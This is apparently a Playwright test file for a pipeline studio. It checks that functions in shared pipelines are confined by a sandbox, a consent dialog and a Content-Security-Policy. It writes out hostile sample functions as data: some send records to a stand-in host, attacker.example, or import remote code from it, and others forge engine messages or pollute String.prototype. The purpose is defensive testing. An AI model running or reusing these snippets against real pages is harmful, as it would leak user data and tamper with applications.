// Someone else's pipeline in the studio: a share link whose functions try to reach the network, the
// user's storage, the engine's messaging and the shared intrinsics. It is asked about before it runs;
// each attempt fails inside the engine's sandbox with a message on its node; no request leaves the page;
// and a clean pipeline opened afterwards in the same tab runs normally.
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { encodePipeline } from "../engine/graph/share";
import { chain, doc, node, wordCountDoc } from "../engine/graph/testPipelines";
import type { PipelineDocument } from "../engine/graph/types";
import { allowSharedPipeline } from "./consent";
import { collectErrors } from "./editorHelpers";

const EVIL = "https://attacker.example";

/** One node per attempt; each returns its record unchanged if the attempt does not throw. */
const ATTEMPTS: { id: string; fn: string; message: RegExp; atCheck?: boolean }[] = [
  { id: "fetch", fn: `(x) => { fetch("${EVIL}/?d=" + x); return x; }`, message: /fetch is not a function/ },
  {
    id: "xhr",
    fn: `(x) => { const r = new XMLHttpRequest(); r.open("GET", "${EVIL}/"); r.send(); return x; }`,
    message: /XMLHttpRequest is not a constructor/,
  },
  {
    id: "socket",
    fn: `(x) => { new WebSocket("wss://attacker.example/"); return x; }`,
    message: /WebSocket is not a constructor/,
  },
  {
    id: "load",
    fn: `(x) => { import("${EVIL}/x.js"); return x; }`,
    message: /import\(\) is not available/,
    atCheck: true,
  },
  { id: "storage", fn: `(x) => { indexedDB.open("dstream-studio"); return x; }`, message: /reading 'open'/ },
  {
    id: "forge",
    fn: `(x) => { self.postMessage({ type: "error", message: "forged" }); return x; }`,
    message: /postMessage is not a function/,
  },
  {
    id: "pollute",
    fn: `(x) => { String.prototype.toUpperCase = () => "pwned"; return x; }`,
    message: /Cannot assign to read only property 'toUpperCase'/,
  },
  {
    id: "stash",
    fn: `(x) => { globalThis.stash = x; return x; }`,
    message: /Cannot add property stash, object is not extensible/,
  },
];

function hostile(attempt: (typeof ATTEMPTS)[number]): PipelineDocument {
  const nodes = [
    node("lines", "textLines", { lines: "secret words", rate: 1 }),
    node(attempt.id, "map", { fn: attempt.fn }),
    node("out", "print"),
  ];
  return { ...doc(nodes, chain(nodes)), name: `hostile ${attempt.id}` };
}

const consentDialog = (page: Page) => page.getByRole("dialog", { name: "Run someone else's pipeline?" });
const completedBatches = async (page: Page) =>
  Number(await page.getByRole("region", { name: "Live simulation" }).getAttribute("data-completed-batches"));

/** Every request the page or its workers make; anything not the app's own origin is stopped and kept. */
async function watchRequests(page: Page, baseURL: string) {
  const foreign: string[] = [];
  await page.context().route("**/*", (route) => {
    const url = route.request().url();
    if (url.startsWith(baseURL)) return route.continue();
    foreign.push(url);
    return route.abort();
  });
  page.on("request", (r) => {
    const url = r.url();
    // blob: is the engine worker's own code, made in the page: not a request leaving it.
    if (!url.startsWith(baseURL) && !url.startsWith("blob:")) foreign.push(url);
  });
  return foreign;
}

test.describe("someone else's pipeline runs sandboxed", () => {
  test("is asked about first, each hostile attempt fails on its node, nothing leaves the page", async ({
    page,
    baseURL,
  }) => {
    const foreign = await watchRequests(page, baseURL!);
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(e.message));
    for (const attempt of ATTEMPTS) {
      await page.goto(`/#p=${encodePipeline(hostile(attempt))}`);
      // Asked first, with the function to read; nothing has run.
      const dialog = consentDialog(page);
      await expect(dialog).toBeVisible();
      await expect(dialog.getByRole("list", { name: "The pipeline's functions" })).toContainText(
        attempt.fn.slice(0, 30),
      );
      expect(await completedBatches(page)).toBe(0);
      await allowSharedPipeline(page);
      await page.getByRole("button", { name: "Step", exact: true }).click();
      const card = page.locator(`[data-node-id="${attempt.id}"]`);
      if (attempt.atCheck)
        // Refused before anything runs: the node's problem badge says why, and the run does not start.
        await expect(card.getByTestId("node-error-badge")).toHaveAttribute("title", attempt.message);
      else
        await expect(card.getByRole("alert"), attempt.id).toHaveAttribute("title", attempt.message, {
          timeout: 20_000,
        });
    }
    // The forged message never reached the page as the engine's.
    await expect(page.getByText("forged", { exact: true })).toHaveCount(0);

    // A clean pipeline, same tab: runs, and toUpperCase is the real one.
    const clean = wordCountDoc(["to be or not to be"], 2);
    const upper = clean.nodes.find((n) => n.kind === "flatMap")!;
    upper.params.fn = '(line) => line.toUpperCase().split(" ")';
    await page.goto(`/#p=${encodePipeline({ ...clean, name: "clean after hostile" })}`);
    await allowSharedPipeline(page);
    for (let i = 1; i <= 2; i++) {
      await page.getByRole("button", { name: "Step", exact: true }).click();
      await expect.poll(() => completedBatches(page), { timeout: 20_000 }).toBe(i);
    }
    await page.getByRole("tab", { name: /Console/ }).click();
    await expect(page.getByText("(TO,4)").first()).toBeVisible();
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);
  });

  test("the frame's policy alone stops the network and storage, even for code that is not confined", async ({
    page,
  }) => {
    // A server on this machine stands for the attacker's: it counts whatever reaches it.
    const hits: string[] = [];
    const server = createServer((req, res) => {
      hits.push(req.url ?? "");
      res.setHeader("Access-Control-Allow-Origin", "*");
      res.end("self.leaked = true;");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    // Chromium announces a worker's request before its policy refuses it: none may finish.
    const finished: string[] = [];
    page.on("requestfinished", (r) => {
      if (r.url().startsWith(evil)) finished.push(r.url());
    });
    await page.goto("/");
    // Raw code started in the sandbox frame, without the engine's confinement: only the frame's
    // Content-Security-Policy and opaque origin stand in the way.
    const results = await page.evaluate(async (evil) => {
      const probe = `
        const report = {};
        const attempt = async (name, f) => {
          try { await Promise.race([f(), new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 2000))]); report[name] = "allowed"; }
          catch (e) { report[name] = "blocked: " + (e && e.name) + ": " + String(e && e.message).slice(0, 80); }
        };
        const xhr = () => new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = () => no(new Error("error event")); r.open("GET", "${evil}/x"); r.send(); });
        const socket = () => new Promise((ok, no) => { const s = new WebSocket("${evil.replace("http", "ws")}/ws"); s.onopen = ok; s.onerror = () => no(new Error("error event")); });
        const events = () => new Promise((ok, no) => { const s = new EventSource("${evil}/e"); s.onopen = ok; s.onerror = () => no(new Error("error event")); });
        const idb = () => new Promise((ok, no) => { const r = indexedDB.open("dstream-studio"); r.onsuccess = ok; r.onerror = () => no(r.error); });
        self.onmessage = async (event) => {
          const port = event.ports[0];
          await attempt("fetch", () => fetch("${evil}/f"));
          await attempt("XMLHttpRequest", xhr);
          await attempt("WebSocket", socket);
          await attempt("EventSource", events);
          await attempt("import()", () => import("${evil}/m.js"));
          await attempt("importScripts", async () => importScripts("${evil}/s.js"));
          await attempt("indexedDB", idb);
          await attempt("caches", () => caches.open("x"));
          await attempt("new Function", async () => { if (new Function("return 1")() !== 1) throw new Error("wrong"); });
          port.postMessage(report);
        };`;
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.src = "/engine-sandbox.html";
      const channel = new MessageChannel();
      const report = new Promise<Record<string, string>>((resolve) => {
        channel.port1.onmessage = (e) => resolve(e.data);
      });
      window.addEventListener("message", (e) => {
        if (e.source === frame.contentWindow && e.data?.type === "frameReady")
          frame.contentWindow!.postMessage({ type: "start", source: probe }, "*", [channel.port2]);
      });
      document.body.appendChild(frame);
      return report;
    }, evil);
    for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "import()", "importScripts"])
      expect(results[name], name).toMatch(/^blocked/);
    expect(results.indexedDB).toMatch(/^blocked: SecurityError/);
    expect(results.caches).toMatch(/^blocked/);
    expect(results["new Function"]).toBe("allowed");
    expect(finished).toEqual([]);
    expect(hits).toEqual([]);
    await new Promise((resolve) => server.close(resolve));
  });

  test("the choice is remembered: refused asks again on Step, allowed runs after a reload", async ({
    page,
  }) => {
    await page.goto(`/#p=${encodePipeline({ ...wordCountDoc(["a b"], 1), name: "remembered" })}`);
    await consentDialog(page).getByRole("button", { name: "Don't run" }).click();
    await page.getByRole("button", { name: "Step", exact: true }).click();
    // Asked again; refused again: the run does not start and says why.
    await consentDialog(page).getByRole("button", { name: "Don't run" }).click();
    await expect(page.getByText(/You chose not to run this pipeline's functions/).first()).toBeVisible();
    expect(await completedBatches(page)).toBe(0);
    await page.getByRole("button", { name: "Step", exact: true }).click();
    await allowSharedPipeline(page);
    await expect.poll(() => completedBatches(page), { timeout: 20_000 }).toBe(1);
    // The pipeline reopens on reload, remembered as allowed: no question.
    await page.reload();
    await page.getByRole("button", { name: "Step", exact: true }).click();
    await expect.poll(() => completedBatches(page), { timeout: 20_000 }).toBe(1);
    await expect(consentDialog(page)).toHaveCount(0);
  });

  test("the consent dialog, wide and at 1024x768", async ({ page }) => {
    const shown = wordCountDoc(["to be or not to be"], 2);
    await page.goto(`/#p=${encodePipeline({ ...shown, name: "Word count from a colleague" })}`);
    await expect(consentDialog(page)).toBeVisible();
    await page.screenshot({ path: "test-results/run-consent.png" });
    await page.setViewportSize({ width: 1024, height: 768 });
    await expect(consentDialog(page).getByRole("button", { name: "Run its functions" })).toBeInViewport();
    await page.screenshot({ path: "test-results/run-consent-1024.png" });
  });
});

test("the built app works under its Content-Security-Policy: examples run, code editor, charts, layout", async ({
  page,
}) => {
  const errors = collectErrors(page);
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      console.error(
        `CSP violation: ${e.violatedDirective} ${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`,
      ),
    );
  });
  await page.goto("/");
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(policy).toContain("script-src 'self';");
  expect(policy).not.toContain("unsafe-eval");
  const examples: { file: string; title: string }[] = JSON.parse(
    readFileSync("public/examples/index.json", "utf8"),
  );
  for (const example of examples) {
    await page.getByRole("button", { name: "Examples" }).click();
    await page.getByRole("button", { name: `Open ${example.title}`, exact: true }).click();
    // A slow simulated cluster (the backpressure example) completes its first batch a few Steps later,
    // as Spark's JobScheduler queues batches behind the one processing.
    await expect(async () => {
      await page.getByRole("button", { name: "Step", exact: true }).click();
      expect(await completedBatches(page), example.file).toBeGreaterThanOrEqual(1);
    }).toPass({ timeout: 30_000, intervals: [1_000, 2_000] });
  }
  // The code editor (CodeMirror) in the inspector, the charts, the auto-layout (elk), the export dialog.
  await page.locator('[data-kind="flatMap"], [data-kind="map"], [data-kind="filter"]').first().click();
  await expect(page.locator(".cm-editor").first()).toBeVisible();
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect.poll(() => completedBatches(page), { timeout: 20_000 }).toBeGreaterThan(2);
  await page.getByRole("tab", { name: /Charts/ }).click();
  await expect
    .poll(async () => Number(await page.getByTestId("chart-inputRate").getAttribute("data-points")))
    .toBeGreaterThan(0);
  await expect(page.getByTestId("chart-inputRate").locator(".metric-surface")).toBeVisible();
  await page.getByRole("button", { name: "Auto-layout" }).click();
  await page.getByRole("button", { name: "Export", exact: true }).click();
  await expect(page.getByRole("dialog", { name: "Export" }).locator(".cm-editor")).toBeVisible();
  expect(errors).toEqual([]);
});
